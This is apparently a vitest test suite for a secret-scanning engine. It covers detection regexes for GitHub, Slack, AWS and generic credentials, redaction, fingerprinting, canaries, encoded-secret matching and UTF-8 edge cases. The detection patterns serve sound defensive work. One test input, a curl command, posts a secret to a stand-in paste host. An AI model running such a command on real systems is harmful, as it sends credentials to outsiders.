// The engine as a user sees it: what is found, where (byte offset, line, column),
// what is never found (placeholders, allowlisted, failing validators), how overlapping
// rules resolve, known secrets and canaries, and that findings never carry the value.
import { createHmac } from 'node:crypto';
import fc from 'fast-check';
import RE2 from 're2';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { tokenChecksum } from '../detectors/checksum.js';
import { compileRule, confirmGuard, type CompiledConfirm } from '../detectors/compile.js';
import { Engine, KnownSecretError, RuleError, utf8SafeEnd, type Finding, type RuleSpec } from '../detectors/index.js';
import { ALPHA_NUM, createRng } from './corpus/rng.js';

const KEY = Buffer.alloc(32, 7);
const rng = createRng(42);
const ex = { positive: [], negative: [] };

function rule(r: Partial<RuleSpec> & Pick<RuleSpec, 'id' | 'regex' | 'keywords'>): RuleSpec {
  return { title: r.id, severity: 'high', examples: ex, ...r };
}

const githubPat = rule({
  id: 'github-pat', title: 'GitHub token', regex: '\\bgh[pousr]_[A-Za-z0-9]{36}\\b', keywords: ['ghp_', 'gho_', 'ghs_'],
  validator: 'github-crc32', destinations: ['api.github.com', 'github.com'],
});
const genericSecret = rule({
  id: 'generic-secret', severity: 'medium', generic: true, entropy: 3,
  regex: '(?i)(?:token|secret|password)[A-Za-z_]*\\s*[=:]\\s*["\']?([^\\s"\']{8,100})', secretGroup: 1,
  keywords: ['token', 'secret', 'password'],
});
const slackToken = rule({ id: 'slack-token', severity: 'medium', regex: 'xox[bp]-[0-9A-Za-z-]{20,}', keywords: ['xoxb-', 'xoxp-'] });
const slackBot = rule({ id: 'slack-bot-token', severity: 'critical', regex: 'xoxb-[0-9A-Za-z-]{20,}', keywords: ['xoxb-'] });

function ghToken(): string {
  const body = rng.chars(ALPHA_NUM, 30);
  return `ghp_${body}${tokenChecksum(body)}`;
}

function engine(rules: RuleSpec[], knownSecrets?: { name: string; value: string; kind: 'secret' | 'canary' }[]): Engine {
  return new Engine(knownSecrets ? { rules, fingerprintKey: KEY, knownSecrets } : { rules, fingerprintKey: KEY });
}

const hmac16 = (v: string, key = KEY): string => createHmac('sha256', key).update(v).digest('hex').slice(0, 16);
const ids = (fs: Finding[]): string[] => fs.map((f) => f.ruleId);

describe('findings', () => {
  test('report rule, byte offset, 1-based line and byte column, length and destinations', () => {
    const tok = ghToken();
    const prefix = 'first line\nnaïve €uro: ';
    const input = Buffer.from(`${prefix}${tok}\n`);
    const [f, ...rest] = engine([githubPat]).scan(input);
    expect(rest).toHaveLength(0);
    const offset = Buffer.byteLength(prefix);
    expect(f).toMatchObject({ ruleId: 'github-pat', title: 'GitHub token', severity: 'high', offset, length: 40, line: 2 });
    expect(f?.column).toBe(offset - Buffer.byteLength('first line\n') + 1);
    expect(f?.destinations).toEqual(['api.github.com', 'github.com']);
  });

  test('carry a redacted preview and an HMAC fingerprint, never the value', () => {
    const tok = ghToken();
    const fs = engine([githubPat]).scan(Buffer.from(`GITHUB_TOKEN=${tok}`));
    expect(fs).toHaveLength(1);
    expect(fs[0]?.redacted).toBe('ghp_…(40)');
    expect(fs[0]?.fingerprint).toBe(hmac16(tok));
    expect(JSON.stringify(fs).includes(tok.slice(4))).toBe(false);
  });

  test('short secrets show at most a third of their characters', () => {
    const e = engine([rule({ id: 'pin', regex: 'pin=([0-9A-Za-z]{6,11})', secretGroup: 1, keywords: ['pin='] })]);
    const [f6] = e.scan(Buffer.from('pin=Qz81Kw'));
    expect(f6?.redacted).toBe('Qz…(6)');
    const [f11] = e.scan(Buffer.from('pin=Qz81KwPm3Rt'));
    expect(f11?.redacted).toBe('Qz8…(11)');
  });

  test('the same secret twice correlates by fingerprint; another key gives another fingerprint', () => {
    const tok = ghToken();
    const input = Buffer.from(`a=${tok}\nb=${tok}\n`);
    const fs = engine([githubPat]).scan(input);
    expect(fs).toHaveLength(2);
    expect(fs[0]?.fingerprint).toBe(fs[1]?.fingerprint);
    const other = new Engine({ rules: [githubPat], fingerprintKey: Buffer.alloc(32, 8) }).scan(input);
    expect(other[0]?.fingerprint).not.toBe(fs[0]?.fingerprint);
  });

  test('findings are sorted by offset across rules', () => {
    const input = Buffer.from(`x xoxp-${rng.chars(ALPHA_NUM, 30)} y ${ghToken()} z xoxp-${rng.chars(ALPHA_NUM, 30)}`);
    const fs = engine([githubPat, slackToken]).scan(input);
    expect(ids(fs)).toEqual(['slack-token', 'github-pat', 'slack-token']);
    expect(fs.map((f) => f.offset)).toEqual([...fs.map((f) => f.offset)].sort((a, b) => a - b));
  });
});

describe('two tiers: a rule runs only near its keywords', () => {
  const r = rule({ id: 'near', regex: 'ZQ[0-9]{8}', keywords: ['acme_key'] });
  test('a match within the window of a keyword is found', () => {
    expect(ids(engine([r]).scan(Buffer.from(`acme_key ${' '.repeat(100)} ZQ40417539`)))).toEqual(['near']);
  });
  test('the same text without its keyword, or far from it, is not', () => {
    expect(engine([r]).scan(Buffer.from('ZQ40417539'))).toEqual([]);
    expect(engine([r]).scan(Buffer.from(`acme_key${' '.repeat(2000)}ZQ40417539`))).toEqual([]);
  });
  test('keywords match case-insensitively; maxLength widens the window', () => {
    expect(ids(engine([r]).scan(Buffer.from('ACME_KEY ZQ40417539')))).toEqual(['near']);
    const wide = { ...r, maxLength: 4096 };
    expect(ids(engine([wide]).scan(Buffer.from(`acme_key${' '.repeat(2000)}ZQ40417539`)))).toEqual(['near']);
  });
  test('dense keyword hits over a long input still find every match', () => {
    const parts: string[] = [];
    for (let i = 0; i < 3000; i++) parts.push(i % 100 === 0 ? `acme_key ZQ${String(40000000 + i * 7919)}` : 'acme_key nothing here');
    expect(engine([r]).scan(Buffer.from(parts.join('\n')))).toHaveLength(30);
  });
});

describe('rejections', () => {
  test('a value below the rule entropy is not a finding', () => {
    const e = engine([genericSecret]);
    expect(e.scan(Buffer.from('password = abababababab'))).toEqual([]);
    expect(ids(e.scan(Buffer.from('password = k9Qz2LmX7pWv')))).toEqual(['generic-secret']);
  });
  test('a failing validator rejects a look-alike', () => {
    const tok = ghToken();
    const broken = tok.slice(0, 36) + (tok[36] === 'A' ? 'B' : 'A') + tok.slice(37);
    expect(engine([githubPat]).scan(Buffer.from(`t=${broken}`))).toEqual([]);
  });
  test('allowlisted values, allowlist regexes and stopwords are not findings', () => {
    const base = { ...genericSecret, entropy: 0 };
    const allowed = { ...base, allowlist: { values: ['Kq7zP2mW9x'], regexes: ['^sha256:'], stopwords: ['fixture'] } };
    const e = engine([allowed]);
    expect(e.scan(Buffer.from('password=Kq7zP2mW9x'))).toEqual([]);
    expect(e.scan(Buffer.from('token=sha256:9f86d081884c7d65'))).toEqual([]);
    expect(e.scan(Buffer.from('secret=MyFIXTUREvalue9'))).toEqual([]);
    expect(ids(e.scan(Buffer.from('password=Kq7zP2mW9y')))).toEqual(['generic-secret']);
  });
  test.each([
    ['a GitHub Actions expression', 'password: ${{ secrets.DEPLOY_KEY }}'],
    ['a shell variable in braces', 'password=${DB_PASSWORD}'],
    ['a shell variable', 'password=$DB_PASSWORD_VALUE'],
    ['a template variable', 'password: {{ vault_password }}'],
    ['an angle-bracket stand-in', 'password=<your-password-here>'],
    ['changeme', 'password=changeme'],
    ['a row of x', 'token=xxxxxxxxxxxxxxxxxxxx'],
    ['masked stars', 'token=********'],
    ['a GitLab masked value', 'token=[MASKED]'],
    ['REDACTED', 'secret=REDACTED_BY_CI'],
    ['one repeated character', 'secret=aaaaaaaaaaaa'],
    ['an EXAMPLE value', 'secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'],
    ['a value containing example', 'token=my-example-token-1234'],
  ])('%s is never a finding', (_name, text) => {
    const e = engine([{ ...genericSecret, entropy: 0 }]);
    expect(e.scan(Buffer.from(text))).toEqual([]);
  });
  test('the AWS documentation key ID is never a finding', () => {
    const aws = rule({ id: 'aws-key-id', regex: '\\b(?:AKIA|ASIA)[A-Z2-7]{16}\\b', keywords: ['AKIA', 'ASIA'], validator: 'aws-key-id' });
    expect(engine([aws]).scan(Buffer.from('aws_access_key_id = AKIAIOSFODNN7EXAMPLE'))).toEqual([]);
    expect(ids(engine([aws]).scan(Buffer.from('aws_access_key_id = AKIAQ3EGRTZ4MXK7UJWN')))).toEqual(['aws-key-id']);
  });
});

describe('overlapping rules', () => {
  test('a generic rule loses to a specific rule on the same span', () => {
    const input = Buffer.from(`GITHUB_TOKEN=${ghToken()}`);
    expect(ids(engine([genericSecret, githubPat]).scan(input))).toEqual(['github-pat']);
    expect(ids(engine([genericSecret]).scan(input))).toEqual(['generic-secret']);
  });
  test('two specific rules on the same secret yield one finding, the higher severity', () => {
    const input = Buffer.from(`SLACK=xoxb-${rng.chars(ALPHA_NUM, 30)}`);
    const fs = engine([slackToken, slackBot]).scan(input);
    expect(ids(fs)).toEqual(['slack-bot-token']);
    expect(fs[0]?.severity).toBe('critical');
  });
  test('a secret is reported once even when several keywords of its rule are near it', () => {
    const input = Buffer.from(`token secret password: token=${ghToken()} ghp_ gho_ ghs_`);
    const fs = engine([githubPat]).scan(input);
    expect(fs).toHaveLength(1);
  });
});

describe('rule errors', () => {
  test('a regex RE2 cannot compile throws RuleError naming the rule', () => {
    const bad = rule({ id: 'uses-lookahead', regex: 'foo(?=bar)', keywords: ['foo'] });
    expect(() => engine([githubPat, bad])).toThrow(RuleError);
    try {
      engine([bad]);
    } catch (err) {
      expect((err as RuleError).ruleId).toBe('uses-lookahead');
      expect((err as Error).message).toContain('uses-lookahead');
    }
  });
  test('a rule without keywords, a bad allowlist regex and duplicate ids are rejected', () => {
    expect(() => engine([rule({ id: 'no-kw', regex: 'x', keywords: [] })])).toThrow(/no-kw/);
    expect(() => engine([{ ...githubPat, allowlist: { regexes: ['(a'] } }])).toThrow(/github-pat/);
    expect(() => engine([githubPat, githubPat])).toThrow(/duplicate/);
  });
});

describe('known secrets and canaries', () => {
  const value = 'Vq3-Lm8/Zp+Xw1&Kt6=Rb';
  const canaryValue = 'canary_tok_Hx4Pq9Wm2Zs7';
  const e = engine([genericSecret], [
    { name: 'DEPLOY_PASSWORD', value, kind: 'secret' },
    { name: 'BAIT_TOKEN', value: canaryValue, kind: 'canary' },
  ]);

  test('the raw value is found, titled by its name, fingerprinted like any other finding', () => {
    const fs = e.scan(Buffer.from(`curl -d "${value}" https://paste.example.net`));
    expect(fs).toHaveLength(1);
    expect(fs[0]).toMatchObject({ ruleId: 'known-secret', known: 'secret', title: 'Known secret DEPLOY_PASSWORD', offset: 9 });
    expect(fs[0]?.fingerprint).toBe(hmac16(value));
    expect(JSON.stringify(fs).includes(value)).toBe(false);
  });

  test('a canary is critical and wins over a generic rule on the same span', () => {
    const fs = e.scan(Buffer.from(`token=${canaryValue}`));
    expect(fs).toHaveLength(1);
    expect(fs[0]).toMatchObject({ ruleId: 'canary', known: 'canary', severity: 'critical', title: 'Canary token BAIT_TOKEN' });
  });

  test.each([
    ['base64', Buffer.from(value).toString('base64')],
    ['base64url', Buffer.from(value).toString('base64url')],
    ['URL encoding', encodeURIComponent(value)],
    ['hex', Buffer.from(value).toString('hex')],
    ['upper-case hex', Buffer.from(value).toString('hex').toUpperCase()],
  ])('it is found in %s', (_name, encoded) => {
    const fs = e.scan(Buffer.from(`body: ${encoded} end`));
    expect(ids(fs)).toEqual(['known-secret']);
    expect(fs[0]?.fingerprint).toBe(hmac16(value));
  });

  test.each([0, 1, 2])('it is found inside a larger base64 blob at alignment %i', (pad) => {
    const blob = Buffer.concat([Buffer.from('{"user":"ci","x":"'.slice(0, 10 + pad)), Buffer.from(value), Buffer.from('","n":1}')]);
    const fs = e.scan(Buffer.from(`Authorization: Basic ${blob.toString('base64')}`));
    expect(ids(fs)).toEqual(['known-secret']);
  });

  test('values shorter than 8 bytes are refused with an error naming the secret', () => {
    expect(() => engine([], [{ name: 'SHORT_ONE', value: 'abc123', kind: 'secret' }])).toThrow(KnownSecretError);
    expect(() => engine([], [{ name: 'SHORT_ONE', value: 'abc123', kind: 'secret' }])).toThrow(/SHORT_ONE/);
  });

  test('known secrets are found with an empty rule pack', () => {
    const only = engine([], [{ name: 'X', value: canaryValue, kind: 'canary' }]);
    expect(ids(only.scan(Buffer.from(`..${canaryValue}..`)))).toEqual(['canary']);
  });
});

describe('UTF-8 boundaries (re2 1.24 over-reads a Buffer ending inside a sequence)', () => {
  afterEach(() => vi.restoreAllMocks());

  test('utf8SafeEnd trims an incomplete trailing sequence and keeps complete ones', () => {
    const euro = Buffer.from('ab€', 'utf8'); // 61 62 e2 82 ac
    expect(utf8SafeEnd(euro, 0, 5)).toBe(5);
    expect(utf8SafeEnd(euro, 0, 4)).toBe(2);
    expect(utf8SafeEnd(euro, 0, 3)).toBe(2);
    const clef = Buffer.from('a𝄞', 'utf8'); // 4-byte sequence
    expect(utf8SafeEnd(clef, 0, 4)).toBe(1);
    expect(utf8SafeEnd(clef, 0, 5)).toBe(5);
    expect(utf8SafeEnd(Buffer.from([0x61, 0x80]), 0, 2)).toBe(2);
  });

  test('RE2 is never handed a Buffer that ends inside a UTF-8 sequence', () => {
    // Checked at call time: the stream reuses its buffer, so a kept view would change later.
    const calls = { exec: 0, search: 0 };
    let cutInside = 0;
    // The prefilter calls `search`, the rule windows `exec`: both are watched.
    for (const method of ['exec', 'search'] as const) {
      const original = RE2.prototype[method] as (this: RE2, input: string | Buffer) => unknown;
      vi.spyOn(RE2.prototype, method).mockImplementation(function (this: RE2, input: string | Buffer) {
        if (Buffer.isBuffer(input)) {
          calls[method]++;
          if (utf8SafeEnd(input, 0, input.length) !== input.length) cutInside++;
        }
        // eslint-disable-next-line @typescript-eslint/no-explicit-any -- forwarding to the overloaded original
        return original.call(this, input) as any;
      });
    }
    const e = engine([genericSecret, githubPat], [{ name: 'K', value: 'known-value-€€€-1', kind: 'secret' }]);
    const filler = '€𝄞é'.repeat(300);
    // Windows around keywords land inside multi-byte characters; the input itself is cut mid-sequence.
    const whole = Buffer.from(`${filler} token=Kq7zP2mW9xRt ${filler} ghp_ ${filler}€`);
    e.scan(whole.subarray(0, whole.length - 1));
    const s = e.stream();
    for (let i = 0; i < whole.length; i += 7) s.write(whole.subarray(i, i + 7));
    s.end();
    // Every stream step searches; the rule windows (token=, ghp_) run a few times.
    expect(calls.search).toBeGreaterThan(100);
    expect(calls.exec).toBeGreaterThan(1);
    expect(cutInside).toBe(0);
  });

  test('a secret right before a cut multi-byte character is still found', () => {
    const tok = ghToken();
    const full = Buffer.from(`key ${tok}€`);
    const fs = engine([githubPat]).scan(full.subarray(0, full.length - 2));
    expect(ids(fs)).toEqual(['github-pat']);
  });
});

describe('regexes compiled on first use (lazyRegexes, the proxy engine, issue #19)', () => {
  test('finds exactly what an engine compiled up front finds, whole and streamed, with the shipped pack', async () => {
    const { defaultRules } = await import('../detectors/rules/index.js');
    const { generateCiLog } = await import('../bench/lib/cilog.js');
    const log = generateCiLog({ bytes: 512 * 1024, seed: 19, secretEvery: 8 * 1024 });
    const eager = new Engine({ rules: defaultRules, fingerprintKey: KEY });
    const lazy = new Engine({ rules: defaultRules, fingerprintKey: KEY, lazyRegexes: true });
    const expected = eager.scan(log.text);
    expect(expected.length).toBeGreaterThan(10);
    expect(lazy.scan(log.text)).toEqual(expected);
    const s = lazy.stream();
    const streamed: Finding[] = [];
    for (let i = 0; i < log.text.length; i += 4096) streamed.push(...s.write(log.text.subarray(i, i + 4096)));
    streamed.push(...s.end());
    expect(streamed.map((f) => [f.ruleId, f.offset, f.fingerprint])).toEqual(expected.map((f) => [f.ruleId, f.offset, f.fingerprint]));
  });

  test('an allowlisted value is still not reported when the allowlist regex is built late', () => {
    const r = rule({ id: 'late-allow', regex: 'tok_[a-z0-9]{12}', keywords: ['tok_'], allowlist: { regexes: ['^tok_example'] } });
    const lazy = new Engine({ rules: [r], fingerprintKey: KEY, lazyRegexes: true });
    expect(lazy.scan(Buffer.from('a tok_example12345 b')).map((f) => f.ruleId)).toEqual([]);
    expect(lazy.scan(Buffer.from('a tok_q1w2e3r4t5y6 b')).map((f) => f.ruleId)).toEqual(['late-allow']);
  });
});

describe('confirm: a cheap test of each keyword hit before the regex runs (issue #19)', () => {
  // Credentials in a URL, the shape of the shipped url-credentials rule: `://` is in every URL.
  const urlRule = rule({
    id: 'url-pw', regex: '[a-z]{2,8}://[^\\s:/?#@]{1,64}:([^\\s/?#@]{6,64})@[a-z0-9.-]+', secretGroup: 1, keywords: ['://'],
  });
  const confirmed = { ...urlRule, confirm: { contains: '@', until: '[\\s/?#]', within: 140 } };
  const pw = (): string => rng.chars(ALPHA_NUM, 16);

  test('a URL with userinfo is found; the hits that fail the test open no window', () => {
    const text = `get https://registry.example.org/pkg\nclone https://ci:${pw()}@git.example.net/repo.git\n`;
    expect(ids(engine([confirmed]).scan(Buffer.from(text)))).toEqual(['url-pw']);
    // A test that no match passes shows the windows are gone: the same URL is no longer found.
    const never = { ...urlRule, confirm: { contains: '!!', until: '[\\s]', within: 140 } };
    expect(engine([never]).scan(Buffer.from(text))).toEqual([]);
    // `until` ends the search: an `@` after the first `/` does not confirm the hit.
    const stopped = { ...urlRule, regex: '[a-z]{2,8}://[^\\s@]{1,64}:([^\\s@]{6,64})@[a-z0-9.-]+' };
    const late = `https://host.example/a:${pw()}@b.example`;
    expect(ids(engine([stopped]).scan(Buffer.from(late)))).toEqual(['url-pw']);
    expect(engine([{ ...stopped, confirm: confirmed.confirm }]).scan(Buffer.from(late))).toEqual([]);
  });

  test('userinfo longer than a counted guard holds is found through the uncounted one, whole and streamed a byte at a time', () => {
    // 97 bytes from `://` to `@`: past MAX_GUARD_GAP, within the test's 140.
    const text = Buffer.from(`clone https://${'u'.repeat(40)}:${rng.chars(ALPHA_NUM, 40)}${pw()}@git.example.net/repo.git\n`);
    const folded = engine([confirmed]);
    expect(folded.keywordHits(text)).toBe(1);
    expect(ids(folded.scan(text))).toEqual(['url-pw']);
    const s = folded.stream();
    const streamed: Finding[] = [];
    for (let at = 0; at < text.length; at++) streamed.push(...s.write(text.subarray(at, at + 1)));
    streamed.push(...s.end());
    expect(streamed).toEqual(folded.scan(text));
  });

  test('`contains` may lie in the keyword itself and is matched case-insensitively', () => {
    const maven = rule({
      id: 'mvn-pw', regex: '(?:<password>|(?i:maven)[\\w.-]{0,20}?(?i:pass(?:word)?)[=:])([A-Za-z0-9]{12,40})', secretGroup: 1,
      keywords: ['<password>', 'maven'], confirm: { contains: 'pass', until: '[^\\w.-]', within: 40 },
    });
    const text = `Downloading https://repo.maven.apache.org/maven2/org/x.jar\n<password>${pw()}</password>\nMAVEN_REPO_PASSWORD=${pw()}\n`;
    expect(ids(engine([maven]).scan(Buffer.from(text)))).toEqual(['mvn-pw', 'mvn-pw']);
    expect(engine([maven]).scan(Buffer.from(text))).toEqual(engine([{ ...maven, confirm: undefined }]).scan(Buffer.from(text)));
  });

  // Pieces are drawn as indices, so a failing case prints numbers, never secret-shaped values.
  const pieces = [
    ' ', '\n', 'https://', '://', 'ci', ':', '@', '/', 'host.example', '?q=1', '#', `${pw()}`, 'é', 'ftp', '\t', 'a:b',
    `https://ci:${pw()}@host.example`, `ci:${pw()}@`, `${pw()}@host.example`, `ftp://deploy:${pw()}`,
    // Long runs outside `until`: an `@` near the test's `within` bytes from the `://`, either side of it.
    'x'.repeat(50),
  ];
  const input = fc.array(fc.integer({ min: 0, max: pieces.length - 1 }), { minLength: 1, maxLength: 60 }).map((p) => Buffer.from(p.map((i) => pieces[i]).join('')));

  test('a confirm test that holds for every match changes no finding, whole or streamed (property)', () => {
    const plain = engine([urlRule]);
    const tested = engine([confirmed]);
    const shape = (fs: Finding[]): unknown[] => fs.map((f) => [f.offset, f.length, f.line, f.column, f.fingerprint]);
    let withFindings = 0;
    fc.assert(
      fc.property(input, fc.array(fc.integer({ min: 1, max: 90 }), { minLength: 1, maxLength: 8 }), (buf, sizes) => {
        const whole = tested.scan(buf);
        expect(shape(whole)).toEqual(shape(plain.scan(buf)));
        if (whole.length > 0) withFindings++;
        const s = tested.stream();
        const streamed: Finding[] = [];
        for (let at = 0, i = 0; at < buf.length; at += sizes[i++ % sizes.length] as number) {
          streamed.push(...s.write(buf.subarray(at, at + (sizes[i % sizes.length] as number))));
        }
        streamed.push(...s.end());
        expect(shape(streamed)).toEqual(shape(whole));
      }),
      { numRuns: 300, seed: 1907 },
    );
    expect(withFindings).toBeGreaterThan(50);
  });

  // A keyword all of whose rules have a confirm test with a short gap carries the test into the
  // alternation (compile.ts confirmGuard): the hits it turns away are never reported at all.
  const mavenRule = rule({
    id: 'mvn-pw', regex: '(?i:maven)[\\w.-]{0,20}?(?i:pass(?:word)?)[=:]([A-Za-z0-9]{12,40})', secretGroup: 1,
    keywords: ['maven'], confirm: { contains: 'pass', until: '[^\\w.-]', within: 40 },
  });

  test('a folded test: the keyword hits it turns away are not reported by the alternation, the findings stay', () => {
    const urls = 'Downloading from central: https://repo.maven.apache.org/maven2/org/x/1.0/x-1.0.jar\n'.repeat(20);
    const text = Buffer.from(`${urls}MAVEN_REPO_PASSWORD=${pw()}\nmaven.pass:${pw()}\n`);
    const folded = engine([mavenRule]);
    const plain = engine([{ ...mavenRule, confirm: undefined }]);
    expect(plain.keywordHits(text)).toBe(42);
    expect(folded.keywordHits(text)).toBe(2);
    expect(ids(folded.scan(text))).toEqual(['mvn-pw', 'mvn-pw']);
    expect(folded.scan(text)).toEqual(plain.scan(text));
  });

  test('a test is folded only where it can be: not when `contains` could begin inside the keyword; a long gap uncounted, and only when lines end it', () => {
    const confirmOf = (r: RuleSpec): CompiledConfirm => compileRule(r, 0).confirm as CompiledConfirm;
    const maven = confirmOf(mavenRule);
    expect(confirmGuard('maven', maven)).toEqual({ pattern: expect.stringContaining('{0,31}[Pp][Aa][Ss][Ss]'), maxBytes: 4 * 31 + 4 });
    // `<password>` holds `pass`: the test passes on the keyword alone, so the alternation must report every hit.
    expect(confirmGuard('<password>', maven)).toBeUndefined();
    expect(confirmGuard('xpas', maven)).toBeUndefined();
    // A gap of 136 bytes (url-credentials': 396) is any run outside `until`, which holds a line feed;
    // a stream still waits for the test's 140 bytes after the hit.
    expect(confirmGuard('://', confirmOf(confirmed))).toEqual({ pattern: '[^\\x09\\x0a\\x0c\\x0d\\x20\\x23\\x2f\\x3f]*\\x40', maxBytes: 137 });
    // Without a line feed in `until`, an uncounted gap would carry the guard on over the whole input.
    expect(confirmGuard('://', confirmOf({ ...urlRule, confirm: { contains: '@', until: '[ /]', within: 140 } }))).toBeUndefined();
    expect(confirmGuard('://', confirmOf({ ...urlRule, confirm: { contains: '@', until: '[\\s]', within: 40 } }))).toEqual({ pattern: '[^\\x09\\x0a\\x0c\\x0d\\x20]{0,36}\\x40', maxBytes: 4 * 36 + 1 });
  });

  // Pieces are drawn as indices: keyword-ish bytes, gap bytes, stop bytes, non-ASCII and invalid UTF-8.
  const mavenPieces: Buffer[] = [
    'maven', 'MAVEN', 'Maven', '_', '.', '-', 'repo', 'x1', 'pass', 'PASS', 'word', '=', ':', ' ', '\n', '/', 'é', 'pa', 'ss',
    `pass=${pw()}`, `_PASSWORD=${pw()}`, pw(), `maven_pass=${pw()}`, `MAVEN_REPO_PASSWORD:${pw()}`,
  ].map((t) => Buffer.from(t));
  mavenPieces.push(Buffer.from([0xff]), Buffer.from([0xc3]));
  const mavenInput = fc
    .array(fc.integer({ min: 0, max: mavenPieces.length - 1 }), { minLength: 1, maxLength: 70 })
    .map((p) => Buffer.concat(p.map((i) => mavenPieces[i] as Buffer)));

  test('a folded test changes no finding, whole or streamed at any split (property)', () => {
    const plain = engine([{ ...mavenRule, confirm: undefined }]);
    const folded = engine([mavenRule]);
    const shape = (fs: Finding[]): unknown[] => fs.map((f) => [f.offset, f.length, f.line, f.column, f.fingerprint]);
    let withFindings = 0;
    fc.assert(
      fc.property(mavenInput, fc.array(fc.integer({ min: 1, max: 90 }), { minLength: 1, maxLength: 8 }), (buf, sizes) => {
        const whole = folded.scan(buf);
        expect(shape(whole)).toEqual(shape(plain.scan(buf)));
        if (whole.length > 0) withFindings++;
        const s = folded.stream();
        const streamed: Finding[] = [];
        for (let at = 0, i = 0; at < buf.length; at += sizes[i++ % sizes.length] as number) {
          streamed.push(...s.write(buf.subarray(at, at + (sizes[i % sizes.length] as number))));
        }
        streamed.push(...s.end());
        expect(shape(streamed)).toEqual(shape(whole));
      }),
      { numRuns: 400, seed: 1908 },
    );
    expect(withFindings).toBeGreaterThan(50);
  });

  test('a confirm that could never pass or is malformed is refused, naming the rule', () => {
    const bad = (confirm: RuleSpec['confirm']): (() => Engine) => () => engine([{ ...urlRule, confirm }]);
    expect(bad({ contains: '', until: '[\\s]', within: 10 })).toThrow(/url-pw: confirm.contains must be non-empty ASCII/);
    expect(bad({ contains: '@', until: '\\s', within: 10 })).toThrow(/url-pw: confirm.until must be an RE2 character class/);
    expect(bad({ contains: '@', until: '[z-a]', within: 10 })).toThrow(/url-pw: confirm.until does not compile/);
    expect(bad({ contains: '@', until: '[\\s]', within: 0 })).toThrow(/url-pw: confirm.within must be an integer/);
    expect(bad({ contains: '@', until: '[\\s]', within: 100_000 })).toThrow(/url-pw: confirm.within/);
    expect(bad({ contains: 'a b', until: '[\\s]', within: 10 })).toThrow(/url-pw: confirm.contains holds a byte of confirm.until/);
  });
});
